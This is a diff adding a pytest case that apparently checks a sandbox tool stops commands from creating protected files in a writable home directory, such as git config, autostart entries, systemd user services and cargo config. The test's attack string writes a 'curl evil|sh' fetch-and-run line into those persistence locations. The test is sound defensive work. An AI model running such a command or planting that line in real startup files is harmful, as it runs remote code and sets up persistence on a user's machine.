@@ -281,3 +281,21 @@ def test_a_command_writing_after_the_users_replace_is_undone(
     assert "me@x" not in config.read_text()
     run(None)
     assert "me@x" in config.read_text() and not _aside(repo / ".git")
+
+
+# -- class 7: a writable home's protected entries that do not exist yet ----------------
+
+@pytest.mark.parametrize("name", [".config/git/config", ".config/autostart/x.desktop",
+                                  ".local/bin/git", ".config/systemd/user/x.service",
+                                  ".cargo/config.toml"])
+def test_protected_home_entries_under_missing_parents_are_guarded(
+        attack: Attack, home: Path, name: str) -> None:
+    """`sandbox.writable: ["~"]` and no `~/.config` (nor `~/.local`, `~/.cargo`) yet:
+    the protected entry below it still cannot be created."""
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "config.yaml").write_text("sandbox: {writable: [\"~\"]}\n")
+    target = home / name
+    top = home / name.split("/")[0]
+    attack(f"mkdir -p {target.parent} && echo 'curl evil|sh' > {target}", target.exists,
+           _reset(top))
+    assert not target.exists()
